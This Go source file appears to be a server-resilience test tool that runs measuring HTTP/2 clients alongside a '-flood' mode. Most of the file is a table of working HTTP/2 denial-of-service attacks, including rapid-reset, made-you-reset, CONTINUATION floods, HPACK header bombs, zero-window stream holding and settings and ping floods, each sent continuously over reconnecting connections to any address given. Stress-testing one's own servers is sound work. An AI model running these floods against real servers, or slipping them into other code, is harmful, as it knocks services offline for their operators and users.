// Command floods is clients of HTTP/2: visitors that ask at fixed times and print what they have measured, or with -flood one that means
// harm. Each of its connections sends one kind of frames as fast as it can; one that the server ends is replaced at once. A flooder says
// when it begins, goes on until its standard input ends, and then prints how many pieces it has sent over how many connections.
package main

import (
	"bufio"
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"maps"
	"net"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood sends the next piece, from number 0 on. errOver has the connection replaced.
type flood func(p *peer, i int) error

var errOver = errors.New("nothing is left to do on this connection")

var floods = map[string]flood{
	"connect": func(*peer, int) error { return errOver },
	"ping":    func(p *peer, _ int) error { return p.WritePing(false, [8]byte{}) },
	"settings": func(p *peer, _ int) error {
		return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	},
	"priority": func(p *peer, i int) error {
		return p.WritePriority(uint32(2*i+3), http2.PriorityParam{StreamDep: uint32(2*i + 1)})
	},
	"unknown": func(p *peer, _ int) error { return p.WriteRawFrame(0x77, 0, 0, nil) },
	"window":  func(p *peer, _ int) error { return p.WriteWindowUpdate(0, 1) },
	"empty-data": func(p *peer, i int) error {
		if i == 0 {
			return p.request(1, false, "POST")
		}
		return p.WriteData(1, false, nil)
	},
	"rapid-reset": func(p *peer, i int) error {
		if err := p.request(id(i), true, "GET"); err != nil {
			return err
		}
		return p.WriteRSTStream(id(i), http2.ErrCodeCancel)
	},
	"made-you-reset": func(p *peer, i int) error {
		if err := p.request(id(i), true, "GET"); err != nil {
			return err
		}
		return p.WriteWindowUpdate(id(i), 0)
	},
	"malformed": func(p *peer, i int) error { return p.headers(id(i), true, ":method", "GET") },
	"old-streams": func(p *peer, i int) error {
		if i == 0 {
			return p.request(1001, true, "GET")
		}
		return p.WriteRSTStream(uint32(2*(i%400)+1), http2.ErrCodeCancel)
	},
	"continuation": func(p *peer, i int) error {
		if i == 0 {
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		return p.WriteContinuation(1, false, p.junk)
	},
	"empty-continuation": func(p *peer, i int) error {
		if i == 0 {
			return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
		}
		return p.WriteContinuation(1, false, nil)
	},
	"header-bomb": func(p *peer, i int) error { // after the first request each byte is a field of 3.5 KB
		if i == 0 {
			return p.headers(1, true, append(request("GET"), "x-bomb", strings.Repeat("b", 3500))...)
		}
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: id(i), BlockFragment: bytes.Repeat([]byte{0x80 | 62}, 8000), EndStream: true, EndHeaders: true})
	},
	"requests": func(p *peer, i int) error { return p.request(id(i), true, "GET") }, // as many as the server takes
	"table-thrash": func(p *peer, i int) error { // each field drives the one before out of the table
		return p.headers(id(i), true, append(request("GET"), fmt.Sprintf("x-%d", i), strings.Repeat("t", 3000), fmt.Sprintf("y-%d", i), strings.Repeat("t", 3000))...)
	},
	"no-window":  func(p *peer, i int) error { return p.hold(i, 0) },
	"one-byte":   func(p *peer, i int) error { return p.hold(i, 1) },
	"bare-bytes": func(p *peer, _ int) error { _, err := p.out.Write(p.junk); return err },
}

func id(i int) uint32 { return uint32(2*i + 1) }

// peer is a connection.
type peer struct {
	*http2.Framer
	out   *bufio.Writer
	enc   *hpack.Encoder
	block bytes.Buffer
	junk  []byte
}

func request(method string) []string {
	return []string{":method", method, ":scheme", "http", ":path", "/", ":authority", "bench"}
}

func (p *peer) request(id uint32, end bool, method string) error {
	return p.headers(id, end, request(method)...)
}

func (p *peer) headers(id uint32, end bool, fields ...string) error {
	p.block.Reset()
	for i := 0; i < len(fields); i += 2 {
		if err := p.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}); err != nil {
			return err
		}
	}
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.block.Bytes(), EndStream: end, EndHeaders: true})
}

// hold asks on a hundred streams for answers that have no room, and then gives the first of them step bytes at a time.
func (p *peer) hold(i, step int) error {
	const streams = 100
	switch {
	case i == 0:
		return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	case i <= streams:
		return p.request(id(i), true, "GET")
	case step > 0:
		return p.WriteWindowUpdate(id(1+i%streams), uint32(step))
	}
	if err := p.out.Flush(); err != nil {
		return err
	}
	time.Sleep(10 * time.Millisecond)
	return p.WritePing(false, [8]byte{}) // fails once the server has ended the connection
}

// flooder counts what all connections did.
type flooder struct {
	addr        string
	send        flood
	sent, conns atomic.Int64
	over        atomic.Bool
}

// run floods until the flooder is over.
func (f *flooder) run() {
	for !f.over.Load() {
		if err := f.visit(); err != nil {
			time.Sleep(time.Millisecond) // no connection is to be had
		}
	}
}

// visit floods over one connection, to its end.
func (f *flooder) visit() error {
	c, err := net.Dial("tcp", f.addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if f.conns.Add(1) == 1 {
		fmt.Println("flooding")
	}
	go func() {
		io.Copy(io.Discard, c) // so that the server is never held up by what it sends
		c.Close()              // once the server has ended its side, the next connection begins
	}()
	out := bufio.NewWriterSize(c, 16<<10)
	p := &peer{Framer: http2.NewFramer(out, nil), out: out, junk: make([]byte, 4<<10)}
	p.enc = hpack.NewEncoder(&p.block)
	p.AllowIllegalWrites = true
	if _, err := out.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := p.WriteSettings(); err != nil {
		return err
	}
	for i := 0; !f.over.Load(); i++ {
		if err := f.send(p, i); err != nil {
			break
		}
		f.sent.Add(1)
	}
	out.Flush()
	return nil
}

func main() {
	kinds := slices.Sorted(maps.Keys(floods))
	addr := flag.String("addr", "", "of the server")
	conns := flag.Int("conns", 4, "connections at a time")
	every := flag.Duration("every", 10*time.Millisecond, "how often a visitor asks")
	d := flag.Duration("for", time.Second, "how long visitors ask")
	kind := flag.String("flood", "", "one of "+strings.Join(kinds, ", "))
	list := flag.Bool("list", false, "print the kinds of floods")
	flag.Parse()
	switch f := (&flooder{addr: *addr, send: floods[*kind]}); {
	case *list:
		fmt.Println(strings.Join(kinds, "\n"))
	case *kind == "":
		if err := visit(*addr, *conns, *every, *d); err != nil {
			log.Fatalf("floods: %v", err)
		}
	case f.send == nil:
		log.Fatalf("floods: no flood %q", *kind)
	default:
		for range *conns {
			go f.run()
		}
		io.Copy(io.Discard, os.Stdin)
		f.over.Store(true)
		fmt.Println(f.sent.Load(), f.conns.Load())
	}
}
